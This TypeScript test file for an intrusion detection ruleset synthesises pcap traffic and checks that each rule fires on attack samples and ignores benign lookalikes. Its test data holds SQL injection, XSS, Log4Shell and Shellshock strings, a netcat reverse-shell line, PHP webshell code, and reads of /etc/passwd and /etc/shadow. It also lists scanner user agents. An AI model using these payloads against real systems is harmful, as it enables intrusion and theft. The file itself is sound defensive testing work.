/**
 * The built-in ruleset (rules/vigil.rules) through the real engine: every rule loads, carries its
 * Vigil type, ATT&CK technique, classtype and rev; every rule fires on its positive cases and
 * stays quiet on its near-miss negatives; no rule fires on the benign strings under
 * ../shared/data/payloads (libinjection false positives, the non-attack sections of the big list
 * of naughty strings) sent as a query parameter, a form body and a cookie; and the detection
 * rate on the attack payload lists is measured and printed (not asserted: it is a figure to
 * watch, not a number to tune).
 *
 * Traffic is synthesised as a classic pcap (Ethernet, IPv4, TCP with handshake and teardown, or
 * UDP), one client address per case, analysed by the built CLI in one run per test, and alerts
 * are mapped back to their case by the client address.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { REPO_ROOT, SHARED_DIR, tempDir } from '../helpers/paths.js';
import { runCli } from '../helpers/reference.js';

const RULES = path.join(REPO_ROOT, 'rules', 'vigil.rules');
const PAYLOADS = path.join(SHARED_DIR, 'data', 'payloads');
const havePayloads = fs.existsSync(path.join(PAYLOADS, 'libinjection', 'false_positives.txt'));

// ---- pcap synthesis ------------------------------------------------------------------------------

const SERVER = 0x0a00000a; // 10.0.0.10
const RESOLVER = 0x0a000035; // 10.0.0.53
/** Clients from 100.64.0.0/10, one per case, so that alerts map back to their case. */
const clientIp = (i: number): number => (0x64400001 + i) >>> 0;
const ipText = (n: number): string => `${n >>> 24}.${(n >>> 16) & 255}.${(n >>> 8) & 255}.${n & 255}`;

function sum16(b: Buffer, off: number, len: number, acc = 0): number {
  let s = acc;
  for (let i = 0; i + 1 < len; i += 2) s += b.readUInt16BE(off + i);
  if (len & 1) s += b[off + len - 1]! << 8;
  return s;
}
const fold = (s: number): number => {
  while (s > 0xffff) s = (s & 0xffff) + (s >>> 16);
  return ~s & 0xffff;
};

const TCP_FIN = 0x01;
const TCP_SYN = 0x02;
const TCP_PSH = 0x08;
const TCP_ACK = 0x10;

/** Writes a little-endian microsecond pcap with Ethernet frames. */
class PcapWriter {
  private readonly parts: Buffer[] = [];
  private tsUs = 1_767_225_600_000_000; // 2026-01-01T00:00:00Z

  constructor() {
    const h = Buffer.alloc(24);
    h.writeUInt32LE(0xa1b2c3d4, 0); // magic, microseconds
    h.writeUInt16LE(2, 4); // version 2.4
    h.writeUInt16LE(4, 6);
    h.writeUInt32LE(262144, 16); // snaplen
    h.writeUInt32LE(1, 20); // LINKTYPE_ETHERNET
    this.parts.push(h);
  }

  /** Move the clock on (each case starts a little after the previous one ends). */
  advance(us: number): void {
    this.tsUs += us;
  }

  private frame(src: number, dst: number, proto: number, l4: Buffer): void {
    const ip = Buffer.alloc(20);
    ip[0] = 0x45; // IPv4, IHL 5
    ip.writeUInt16BE(20 + l4.length, 2); // total length
    ip.writeUInt16BE(0x4000, 6); // DF
    ip[8] = 64; // TTL
    ip[9] = proto;
    ip.writeUInt32BE(src, 12);
    ip.writeUInt32BE(dst, 16);
    ip.writeUInt16BE(fold(sum16(ip, 0, 20)), 10);
    // L4 checksum over the pseudo-header (RFC 793 / RFC 768).
    const pseudo = Buffer.alloc(12);
    pseudo.writeUInt32BE(src, 0);
    pseudo.writeUInt32BE(dst, 4);
    pseudo[9] = proto;
    pseudo.writeUInt16BE(l4.length, 10);
    const ck = fold(sum16(l4, 0, l4.length, sum16(pseudo, 0, 12)));
    l4.writeUInt16BE(proto === 17 && ck === 0 ? 0xffff : ck, proto === 6 ? 16 : 6);
    const eth = Buffer.alloc(14);
    eth.write('020000000002020000000001', 'hex'); // dst, src MAC (locally administered)
    eth.writeUInt16BE(0x0800, 12);
    const len = 14 + 20 + l4.length;
    const rec = Buffer.alloc(16);
    rec.writeUInt32LE(Math.floor(this.tsUs / 1e6), 0);
    rec.writeUInt32LE(this.tsUs % 1e6, 4);
    rec.writeUInt32LE(len, 8);
    rec.writeUInt32LE(len, 12);
    this.parts.push(rec, eth, ip, l4);
    this.tsUs += 50;
  }

  private tcp(
    src: number,
    dst: number,
    sp: number,
    dp: number,
    seq: number,
    ack: number,
    flags: number,
    data: Buffer,
  ): void {
    const h = Buffer.alloc(20 + data.length);
    h.writeUInt16BE(sp, 0);
    h.writeUInt16BE(dp, 2);
    h.writeUInt32BE(seq >>> 0, 4);
    h.writeUInt32BE(ack >>> 0, 8);
    h[12] = 5 << 4; // data offset
    h[13] = flags;
    h.writeUInt16BE(65535, 14); // window
    data.copy(h, 20);
    this.frame(src, dst, 6, h);
  }

  /**
   * A whole TCP connection: handshake, then the exchanges in order (client to server when
   * `toServer`), each cut into 1460-byte segments and acknowledged, then FIN from both sides.
   */
  tcpSession(
    client: number,
    sport: number,
    server: number,
    dport: number,
    talk: { toServer: boolean; data: Buffer }[],
  ): void {
    let cs = 1000; // client sequence
    let ss = 5000; // server sequence
    this.tcp(client, server, sport, dport, cs, 0, TCP_SYN, Buffer.alloc(0));
    this.tcp(server, client, dport, sport, ss, cs + 1, TCP_SYN | TCP_ACK, Buffer.alloc(0));
    cs++;
    ss++;
    this.tcp(client, server, sport, dport, cs, ss, TCP_ACK, Buffer.alloc(0));
    for (const { toServer, data } of talk) {
      for (let o = 0; o < data.length; o += 1460) {
        const seg = data.subarray(o, Math.min(data.length, o + 1460));
        if (toServer) {
          this.tcp(client, server, sport, dport, cs, ss, TCP_PSH | TCP_ACK, seg);
          cs += seg.length;
        } else {
          this.tcp(server, client, dport, sport, ss, cs, TCP_PSH | TCP_ACK, seg);
          ss += seg.length;
        }
      }
      if (toServer) this.tcp(server, client, dport, sport, ss, cs, TCP_ACK, Buffer.alloc(0));
      else this.tcp(client, server, sport, dport, cs, ss, TCP_ACK, Buffer.alloc(0));
    }
    this.tcp(client, server, sport, dport, cs, ss, TCP_FIN | TCP_ACK, Buffer.alloc(0));
    this.tcp(server, client, dport, sport, ss, cs + 1, TCP_FIN | TCP_ACK, Buffer.alloc(0));
    this.tcp(client, server, sport, dport, cs + 1, ss + 1, TCP_ACK, Buffer.alloc(0));
  }

  udp(src: number, sp: number, dst: number, dp: number, data: Buffer): void {
    const h = Buffer.alloc(8 + data.length);
    h.writeUInt16BE(sp, 0);
    h.writeUInt16BE(dp, 2);
    h.writeUInt16BE(8 + data.length, 4);
    data.copy(h, 8);
    this.frame(src, dst, 17, h);
  }

  write(file: string): void {
    fs.writeFileSync(file, Buffer.concat(this.parts));
  }
}

/** A DNS query for `name`, type A, recursion desired (RFC 1035 section 4.1). */
function dnsQuery(id: number, name: string): Buffer {
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l, 'latin1')]));
  const hdr = Buffer.alloc(12);
  hdr.writeUInt16BE(id & 0xffff, 0);
  hdr.writeUInt16BE(0x0100, 2); // RD
  hdr.writeUInt16BE(1, 4); // QDCOUNT
  return Buffer.concat([hdr, ...labels, Buffer.from([0, 0, 1, 0, 1])]); // root, QTYPE A, QCLASS IN
}

// ---- HTTP messages -----------------------------------------------------------------------------

const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const latin1 = (s: string): Buffer => Buffer.from(s, 'latin1');

/** Percent-encodes as `curl --data-urlencode` does: all but [A-Za-z0-9._~-], UTF-8, space as '+'. */
function formEncode(s: string): string {
  let o = '';
  for (const c of Buffer.from(s, 'utf8')) {
    if (
      (c >= 48 && c <= 57) ||
      (c >= 65 && c <= 90) ||
      (c >= 97 && c <= 122) ||
      c === 45 ||
      c === 46 ||
      c === 95 ||
      c === 126
    )
      o += String.fromCharCode(c);
    else if (c === 32) o += '+';
    else o += '%' + c.toString(16).toUpperCase().padStart(2, '0');
  }
  return o;
}

/** An already URL-encoded line (libinjection's format) made valid on a request line: controls, space, '#' and non-ASCII escaped. */
function requestSafe(s: string): string {
  let o = '';
  for (const c of Buffer.from(s, 'latin1')) {
    if (c <= 32 || c >= 127 || c === 35) o += '%' + c.toString(16).toUpperCase().padStart(2, '0');
    else o += String.fromCharCode(c);
  }
  return o;
}

interface Req {
  method?: string;
  target: string;
  headers?: Record<string, string>;
  body?: Buffer | string;
}

function request(r: Req): Buffer {
  const body = r.body === undefined ? Buffer.alloc(0) : typeof r.body === 'string' ? latin1(r.body) : r.body;
  const h: Record<string, string> = {
    Host: 'shop.example',
    'User-Agent': FIREFOX,
    Accept: '*/*',
    ...r.headers,
  };
  if (body.length > 0) {
    h['Content-Length'] = String(body.length);
    h['Content-Type'] ??= 'application/x-www-form-urlencoded';
  }
  let head = `${r.method ?? (body.length > 0 ? 'POST' : 'GET')} ${r.target} HTTP/1.1\r\n`;
  for (const [k, v] of Object.entries(h)) head += `${k}: ${v}\r\n`;
  return Buffer.concat([latin1(head + '\r\n'), body]);
}

function response(body: Buffer | string, contentType = 'text/html; charset=utf-8'): Buffer {
  const b = typeof body === 'string' ? latin1(body) : body;
  const head = `HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: ${contentType}\r\nContent-Length: ${b.length}\r\n\r\n`;
  return Buffer.concat([latin1(head), b]);
}

const PAGE = '<!doctype html><html><head><title>Shop</title></head><body><p>Results</p></body></html>';

// ---- cases ---------------------------------------------------------------------------------------

type Session =
  | { kind: 'http'; req: Buffer; resp: Buffer; port?: number }
  | { kind: 'tcp'; port: number; talk: { toServer: boolean; data: Buffer }[] }
  | { kind: 'dns'; name: string };

interface Case {
  /** Rule the case is about. Positive: this sid must alert (with the rule's type); negative: nothing may alert. */
  sid: number;
  positive: boolean;
  what: string;
  session: Session;
}

function writeCases(cases: readonly Session[], file: string): void {
  const w = new PcapWriter();
  cases.forEach((s, i) => {
    const c = clientIp(i);
    const sport = 20000 + (i % 40000);
    if (s.kind === 'dns') w.udp(c, sport, RESOLVER, 53, dnsQuery(i, s.name));
    else if (s.kind === 'http')
      w.tcpSession(c, sport, SERVER, s.port ?? 80, [
        { toServer: true, data: s.req },
        { toServer: false, data: s.resp },
      ]);
    else w.tcpSession(c, sport, SERVER, s.port, s.talk);
    w.advance(20_000);
  });
  w.write(file);
}

interface Alert {
  sid: number;
  type: string | undefined;
  mitre: string | undefined;
}

/** Built-in alerts per case index (by the client address on either side). */
async function analyse(sessions: readonly Session[], dir: string, name: string): Promise<Map<number, Alert[]>> {
  const pcap = path.join(dir, `${name}.pcap`);
  const eve = path.join(dir, `${name}.eve.json`);
  writeCases(sessions, pcap);
  const r = await runCli(['analyze', pcap, '--json', '--workers', '1', '--no-ml', '--eve', eve]);
  assert.equal(r.code, 0, r.stderr);
  const byIp = new Map<string, number>();
  sessions.forEach((_s, i) => byIp.set(ipText(clientIp(i)), i));
  const out = new Map<number, Alert[]>();
  for (const line of fs.readFileSync(eve, 'utf8').split('\n')) {
    if (!line.includes('"event_type":"alert"')) continue;
    const e = JSON.parse(line) as {
      src_ip: string;
      dest_ip: string;
      alert: { signature_id: number; metadata?: Record<string, string[]> };
    };
    const sid = e.alert.signature_id;
    if (sid < 9100000 || sid > 9199999) continue; // behaviour detectors and other rule sets
    const i = byIp.get(e.src_ip) ?? byIp.get(e.dest_ip);
    if (i === undefined) continue;
    const list = out.get(i) ?? [];
    list.push({
      sid,
      type: e.alert.metadata?.['vigil_type']?.[0],
      mitre: e.alert.metadata?.['mitre_technique_id']?.[0],
    });
    out.set(i, list);
  }
  return out;
}

/** Where a web payload goes. */
type Place = 'query' | 'body' | 'cookie';

function placed(place: Place, value: string, encoded = false): Session {
  const v = encoded ? value : formEncode(value);
  if (place === 'query')
    return { kind: 'http', req: request({ target: `/search?q=${v}&page=1` }), resp: response(PAGE) };
  if (place === 'body')
    return {
      kind: 'http',
      req: request({ target: '/comment', body: `name=alice&comment=${v}` }),
      resp: response(PAGE),
    };
  return {
    kind: 'http',
    req: request({ target: '/account', headers: { Cookie: `session=5f2b9c0e41d7; pref=${v}` } }),
    resp: response(PAGE),
  };
}

/** A web payload group: one pattern applied to the URI, body and cookie rules. */
interface WebGroup {
  sids: Partial<Record<Place, number>>;
  pos: string[];
  neg: string[];
  /** Positive values already URL-encoded (sent as is). */
  posEncoded?: string[];
}

const WEB: WebGroup[] = [
  {
    // UNION-based
    sids: { query: 9100001, body: 9100009, cookie: 9100030 },
    pos: [
      "' UNION SELECT a,b FROM users--",
      '1/**/UNION/**/SELECT/**/1,2',
      '0 union all select null,@@version',
      "x' UNION(SELECT username FROM users)--",
    ],
    neg: ['union station', 'select a plan', 'trade union select committee meeting', 'Union Pacific selected a new CEO'],
  },
  {
    // boolean / tautology
    sids: { query: 9100002, body: 9100020, cookie: 9100031 },
    pos: [
      "lamp' AND 1=1--",
      '1 OR 1=1',
      "' OR '1'='1",
      "x') or ('a'='a",
      '2) AND 3754=3754 AND (4224=4224',
      "1' and substring(version(),1,1)=5 -- x",
      "' or username like '%",
    ],
    neg: [
      '1=1 math puzzle',
      "rock 'n' roll",
      "o'reilly books",
      '2 OR 4 METAL BUTTONS',
      'this or that = same',
      "KNICKIN' AND KNACKIN'",
    ],
  },
  {
    // time-based
    sids: { query: 9100003, body: 9100021, cookie: 9100032 },
    pos: [
      '1 AND SLEEP(1)',
      "1; WAITFOR DELAY '0:0:5'--",
      "1' AND (SELECT 1 FROM PG_SLEEP(5))--",
      "2 AND 7990=LIKE('ABC',UPPER(HEX(RANDOMBLOB(100000000/2))))",
      'BENCHMARK(5000000,MD5(1))',
    ],
    neg: ['sleep (8 hours)', 'sleep well tonight', 'benchmark results 2024'],
  },
  {
    // comment / ORDER BY after a quote
    sids: { query: 9100010, body: 9100022, cookie: 9100033 },
    pos: ["admin'--", "admin'#", "admin'/*", "lamp' ORDER BY 3-- xyz", '1 /*!50000select*/ 2'],
    neg: [
      '--verbose flag docs',
      "BLUE BROWN -BABY CCBCUSTOMDRESSES' --INFANT",
      "FOO BAR'# BLAH",
      '#2 pencil',
      'C# -- a language',
    ],
  },
  {
    // stacked queries
    sids: { query: 9100011, body: 9100023, cookie: 9100034 },
    pos: ["'; SELECT * FROM users; --", '1; DROP TABLE users', "x'; insert into users values(1)--", '1;shutdown--'],
    neg: [
      'drop shipping',
      'insert coin',
      'BASE; SET SWAROVSKI',
      'Step 2; select one from the list',
      'delete from cart',
    ],
  },
  {
    // fingerprinting, error-based functions, subqueries
    sids: { query: 9100012, body: 9100024, cookie: 9100035 },
    pos: [
      '1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)',
      "x' AND extractvalue(1,concat(0x7e,version()))--",
      'CHAR(113,107,98,120,113)',
      '(SELECT 1 FROM sqlite_master)',
    ],
    neg: ['information about schemas', 'char (grilled fish)', '(select one from the menu)'],
  },
  {
    // script tags, raw, entity- and double-encoded
    sids: { query: 9100004, body: 9100050, cookie: 9100055 },
    pos: [
      '<script>alert(1)</script>',
      '"><script src=//evil.example/x.js></script>',
      '&#60;script&#62;alert(1)&#60;/script&#62;',
      '<x:script>alert(1)</x:script>',
    ],
    posEncoded: ['%253Cscript%253Ealert(1)%253C%252Fscript%253E', '%3Cscript%3Ealert(%27x%27)%3C%2Fscript%3E'],
    neg: ['javascript tutorial', 'manuscript review', '<b>bold</b> text', 'postscript printer'],
  },
  {
    // event handlers
    sids: { query: 9100005, body: 9100051, cookie: 9100056 },
    pos: [
      '<img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      '<body onload=alert(1)>',
      '" onmouseover="alert(1)',
      '<div onmouseover="alert(1)">hover</div>',
    ],
    neg: ['I <3 onions', 'online=true', 'the onset of winter', '<b>on sale</b>'],
  },
  {
    // javascript:, vbscript:, data: URLs
    sids: { query: 9100006, body: 9100052, cookie: 9100057 },
    pos: [
      '<a href="javascript:alert(1)">x</a>',
      'javascript:alert(document.cookie)',
      'java\tscript:alert(1)',
      'jav&#x09;ascript:alert(1)',
      'data:text/html;base64,PHNjcmlwdD4=',
      'vbscript:msgbox(1)',
    ],
    neg: ['javascript: the good parts', 'Learning JavaScript: a guide', 'data: text analysis'],
  },
  {
    // active-content tags
    sids: { query: 9100058, body: 9100053, cookie: 9100059 },
    pos: [
      '<iframe src=//evil.example>',
      '<object data=x.swf>',
      '<meta http-equiv="refresh" content="0;url=//evil.example">',
      '<svg><circle r=1>',
    ],
    neg: [
      'iframe sizes',
      'I <3 meta',
      'embed code help',
      '<meta charset="utf-8"><style>p{color:red}</style><link rel="stylesheet" href="/a.css">',
    ],
  },
  {
    // script code and CSS expressions
    sids: { query: 9100060, body: 9100054, cookie: 9100061 },
    pos: [
      '";alert(1);//',
      "'-prompt(1)-'",
      'x" style="width:expression(alert(1))',
      "'+document.cookie+'",
      '<div style="-moz-binding:url(x)">',
    ],
    neg: ['alert settings', 'document cookie policy', 'regular expression (regex) help'],
  },
  {
    // command separator + command
    sids: { query: 9100300, body: 9100301, cookie: 9100302 },
    pos: [
      'x | id',
      'x && whoami',
      '; uname -a',
      'x; ping -c 3 10.0.0.1',
      '1|nc 10.0.0.1 4444 -e /bin/sh',
      '127.0.0.1; cat /etc/passwd',
    ],
    neg: [
      'Paris; more info',
      'cats & dogs',
      'R&D; net income',
      'rock|pop',
      'salt & pepper; sleep well',
      'Tom & Jerry; id card',
    ],
  },
  {
    // substitution, code-injection constructs
    sids: { query: 9100303, body: 9100304, cookie: 9100305 },
    pos: [
      '$(whoami)',
      '`id`',
      'x;cat${IFS}/tmp/a',
      "<?php system($_GET['c']); ?>",
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      'powershell -enc SQBFAFgA',
      '<!--#exec cmd="ls" -->',
    ],
    neg: ['$5 off coupon', 'price (USD)', '{{ name }}', 'the system (overview)'],
  },
  {
    // webshell-style parameter (the value is the command)
    sids: { query: 9100306, body: 9100307 },
    pos: ['whoami', 'uname -a', 'cat /etc/hostname'],
    neg: ['search', 'print', 'report 5'],
  },
  {
    // traversal sequences (decoded)
    sids: { query: 9100350, body: 9100351, cookie: 9100352 },
    pos: ['../../secret.txt', '..\\..\\boot', '....//....//x', '..\\secret'],
    neg: ['../account', '1...2', 'wait...', 'see p. 12..13'],
  },
  {
    // sensitive files, wrappers
    sids: { query: 9100008, body: 9100353, cookie: 9100354 },
    pos: [
      '/etc/passwd',
      '../../../../etc/shadow',
      'php://filter/convert.base64-encode/resource=index.php',
      'C:\\windows\\win.ini',
      'file:///etc/hosts',
    ],
    neg: ['etc. and passwords', 'File:///', 'my php tips', 'how to edit web.config', 'C:\\Windows\\System32 help'],
  },
];

function webCases(): Case[] {
  const out: Case[] = [];
  for (const g of WEB) {
    for (const [place, sid] of Object.entries(g.sids) as [Place, number][]) {
      // The webshell rule looks at the parameter name, so its payload goes into cmd= / exec=.
      const shell = sid === 9100306 || sid === 9100307;
      const at = (v: string, enc: boolean): Session => {
        if (!shell) return placed(place, v, enc);
        const e = enc ? v : formEncode(v);
        return place === 'query'
          ? { kind: 'http', req: request({ target: `/uploads/s.php?cmd=${e}` }), resp: response(PAGE) }
          : { kind: 'http', req: request({ target: '/uploads/s.php', body: `a=1&exec=${e}` }), resp: response(PAGE) };
      };
      for (const v of g.pos) out.push({ sid, positive: true, what: `${place}: ${v}`, session: at(v, false) });
      for (const v of g.posEncoded ?? [])
        out.push({ sid, positive: true, what: `${place} (encoded): ${v}`, session: at(v, true) });
      for (const v of g.neg) out.push({ sid, positive: false, what: `${place}: ${v}`, session: at(v, false) });
    }
  }
  return out;
}

const http = (req: Req, resp = response(PAGE)): Session => ({ kind: 'http', req: request(req), resp });
const ua = (agent: string): Session => http({ target: '/', headers: { 'User-Agent': agent } });
const raw = (port: number, ...talk: [boolean, string][]): Session => ({
  kind: 'tcp',
  port,
  talk: talk.map(([toServer, s]) => ({ toServer, data: latin1(s) })),
});

const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const PE = Buffer.concat([
  latin1('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00'),
  Buffer.alloc(48),
  latin1('\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$'),
  Buffer.alloc(64),
]);
const WIN_SHELL =
  'Microsoft Windows [Version 10.0.19045.2965]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\bob>';

/** Positive user agents per tool rule, with a near-miss negative each. */
const TOOLS: [number, string, string][] = [
  [9100101, 'sqlmap/1.7.2#stable (https://sqlmap.org)', 'curl/7.88.1'],
  [
    9100102,
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  ],
  [9100103, 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)', 'Nikon Camera Uploader/1.0'],
  [9100104, 'Mozilla/4.0 (Hydra)', 'HydraBrowser/2.0'],
  [9100105, 'Teh Forest Lobster', 'Forest Explorer/1.0'],
  [9100107, 'Mozilla/5.0 (compatible; Netsparker)', FIREFOX],
  [9100108, 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', 'WordPress/6.4; https://blog.example'],
  [9100109, 'Mozilla/5.0 (compatible; Nessus)', 'python-requests/2.31.0'],
  [9100110, 'Mozilla/5.0 [en] (X11, U; OpenVAS 9.0)', 'Go-http-client/1.1'],
  [9100111, 'w3af.org', 'Wget/1.21.3'],
  [9100112, 'Arachni/v1.5.1', 'okhttp/4.12.0'],
  [9100113, 'Mozilla/5.0 (Nuclei - Open-source project (github.com/projectdiscovery/nuclei))', FIREFOX],
  [9100114, 'WhatWeb/0.5.5', 'WhatsApp/2.23.20.0'],
  [9100115, 'Made by ZmEu @ WhiteHat Team - www.whitehat.ro', FIREFOX],
  [9100116, 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', FIREFOX],
  [9100117, 'gobuster/3.6', 'Go-http-client/2.0'],
  [9100118, 'Fuzz Faster U Fool v2.1.0-dev', FIREFOX],
  [9100119, 'Wfuzz/3.1.0', FIREFOX],
  [9100120, 'feroxbuster/2.10.1', FIREFOX],
  [9100121, 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', FIREFOX],
  [9100122, 'Mozilla/5.0 zgrab/0.x', FIREFOX],
  [9100123, 'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1) Havij', FIREFOX],
  [9100124, 'commix/v3.8 (https://commixproject.com)', FIREFOX],
  [9100125, 'DotDotPwn v3.0.2', FIREFOX],
  [9100126, 'Mozilla/5.0 SF/2.10b', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) Safari/605.1.15'],
  [9100127, 'Wapiti-3.1.8 (wapiti-scanner.github.io)', FIREFOX],
  [9100128, 'Mozilla/5.0 Jorgee', FIREFOX],
];

function otherCases(): Case[] {
  const c = (sid: number, positive: boolean, what: string, session: Session): Case => ({
    sid,
    positive,
    what,
    session,
  });
  const out: Case[] = [];
  for (const [sid, p, n] of TOOLS) out.push(c(sid, true, p, ua(p)), c(sid, false, n, ua(n)));
  out.push(
    c(
      9100106,
      true,
      'acunetix header',
      http({ target: '/', headers: { 'Acunetix-Product': 'WVS/12.0 (Acunetix Web Vulnerability Scanner)' } }),
    ),
    c(9100106, false, 'ordinary headers', http({ target: '/', headers: { 'X-Requested-With': 'XMLHttpRequest' } })),
    // Shellshock and Log4Shell live in headers.
    c(9100308, true, 'shellshock UA', ua('() { :;}; echo; /bin/id')),
    c(9100308, false, 'ordinary UA', ua('Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)')),
    c(9100309, true, 'jndi UA', ua('${jndi:ldap://x.example/a}')),
    c(
      9100309,
      true,
      'nested jndi header',
      http({ target: '/', headers: { 'X-Api-Version': '${${lower:j}ndi:ldap://x.example/a}' } }),
    ),
    c(9100309, false, 'template-looking header', http({ target: '/', headers: { 'X-Note': '${HOME} costs $5' } })),
    c(9100310, true, 'jndi in query', placed('query', '${jndi:ldap://x.example/a}')),
    c(9100310, false, 'dollar braces in query', placed('query', 'price ${5}')),
    c(9100311, true, 'jndi in body', placed('body', '${jndi:rmi://x.example/a}')),
    c(9100311, false, 'dollar braces in body', placed('body', '${HOME}')),
    // Traversal in the raw URI with encodings.
    c(9100007, true, 'encoded separator', http({ target: '/files/..%2f..%2fetc/hosts' })),
    c(9100007, true, 'encoded dots in query', http({ target: '/download?f=%2e%2e%2fsecret.txt' })),
    c(9100007, true, 'overlong UTF-8 slash', http({ target: '/download?f=..%c0%afsecret.txt' })),
    c(9100007, false, 'dots in names', http({ target: '/static/v1.2.3/app.min.js?v=1.2.3' })),
    c(9100007, false, 'one plain level up', http({ target: '/login?next=../account' })),
    c(9100350, true, 'plain traversal in path', http({ target: '/files/../../../secret.txt' })),
    // Fixed probes and banners.
    c(9100150, true, 'nmap 404 probe', http({ target: '/nice%20ports%2C/Tri%6Eity.txt%2ebak' })),
    c(9100150, false, 'ports page', http({ target: '/nice-ports.html' })),
    c(
      9100151,
      true,
      'nmap ssh',
      raw(22, [false, 'SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n'], [true, 'SSH-2.0-Nmap-SSH2-Hostkey\r\n']),
    ),
    c(
      9100151,
      false,
      'openssh client',
      raw(22, [false, 'SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n'], [true, 'SSH-2.0-OpenSSH_9.6\r\n']),
    ),
    c(
      9100152,
      true,
      'zgrab ssh',
      raw(22, [false, 'SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n'], [true, 'SSH-2.0-ZGrab ZGrab SSH Survey\r\n']),
    ),
    c(
      9100152,
      false,
      'putty',
      raw(22, [false, 'SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n'], [true, 'SSH-2.0-PuTTY_Release_0.80\r\n']),
    ),
    c(9100153, true, '.git/config', http({ target: '/.git/config' })),
    c(9100153, true, '.env', http({ target: '/.env' })),
    c(9100153, false, 'gitlab config page', http({ target: '/gitlab/config' })),
    c(9100153, false, 'environment page', http({ target: '/environment?x=.env' })),
    c(9100154, true, 'burp collaborator', { kind: 'dns', name: 'a1b2c3d4e5.oastify.com' }),
    c(9100154, true, 'interactsh', { kind: 'dns', name: 'cn1q2w3e4r5t6y.oast.fun' }),
    c(9100154, false, 'lookalike', { kind: 'dns', name: 'oastify.com.example.org' }),
    // Malware, test files, remote shells.
    c(
      9100202,
      true,
      'EICAR download',
      http({ target: '/download/eicar.com' }, response(EICAR, 'application/octet-stream')),
    ),
    c(
      9100202,
      false,
      'EICAR info page',
      http({ target: '/eicar' }, response('<p>The EICAR-STANDARD test file explained</p>')),
    ),
    c(
      9100203,
      true,
      'EICAR upload',
      http({ target: '/upload', body: EICAR, headers: { 'Content-Type': 'application/octet-stream' } }),
    ),
    c(
      9100203,
      false,
      'text upload',
      http({ target: '/upload', body: 'EICAR test: see vendor docs', headers: { 'Content-Type': 'text/plain' } }),
    ),
    c(9100204, true, 'EICAR over raw TCP', raw(2121, [true, 'RETR x\r\n'], [false, EICAR])),
    c(9100204, false, 'text over raw TCP', raw(2121, [true, 'RETR x\r\n'], [false, 'hello, EICAR readers'])),
    c(
      9100201,
      true,
      'id output as root',
      http({ target: '/ping?h=x' }, response('uid=0(root) gid=0(root) groups=0(root)\n', 'text/plain')),
    ),
    c(
      9100201,
      false,
      'uid in docs',
      http({ target: '/docs/id' }, response('<p>id prints uid=1000 for the first user</p>')),
    ),
    c(
      9100205,
      true,
      'base64 PE',
      http(
        { target: '/api/update' },
        response(`{"blob":"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAA"}`, 'application/json'),
      ),
    ),
    c(
      9100205,
      false,
      'base64 PNG',
      http({ target: '/api/avatar' }, response(`{"blob":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"}`, 'application/json')),
    ),
    c(9100206, true, 'PE served as image', http({ target: '/img/logo.jpg' }, response(PE, 'image/jpeg'))),
    c(
      9100206,
      false,
      'PE served as a download',
      http({ target: '/setup.exe' }, response(PE, 'application/octet-stream')),
    ),
    c(9100207, true, 'cmd.exe banner on raw TCP', raw(4444, [true, '\r\n'], [false, WIN_SHELL])),
    c(
      9100207,
      false,
      'cmd.exe banner on a web page',
      http({ target: '/docs/cmd' }, response(`<pre>${WIN_SHELL}</pre>`)),
    ),
    c(
      9100208,
      true,
      'id output on raw TCP',
      raw(4444, [true, 'id\n'], [false, 'uid=33(www-data) gid=33(www-data) groups=33(www-data)\n']),
    ),
    c(
      9100208,
      false,
      'id output on a web page',
      http({ target: '/docs/id' }, response('<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)\n</pre>')),
    ),
    c(
      9100209,
      true,
      'xmrig login',
      raw(3333, [
        true,
        '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"}}\n',
      ]),
    ),
    c(
      9100209,
      true,
      'stratum subscribe',
      raw(3333, [true, '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n']),
    ),
    c(
      9100209,
      false,
      'json-rpc login',
      raw(3333, [true, '{"id":1,"jsonrpc":"2.0","method":"login","params":{"user":"bob"}}\n']),
    ),
    c(9100210, true, 'miner UA', ua('XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0')),
    c(9100210, false, 'ordinary UA', ua(FIREFOX)),
    c(9100211, true, 'dnscat2 query', { kind: 'dns', name: 'dnscat.4f2a01b2c3d4e5f6' }),
    c(9100211, false, 'lookalike name', { kind: 'dns', name: 'dnscatalog.example.com' }),
    // Policy.
    c(9100250, true, 'onion lookup', {
      kind: 'dns',
      name: 'duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion',
    }),
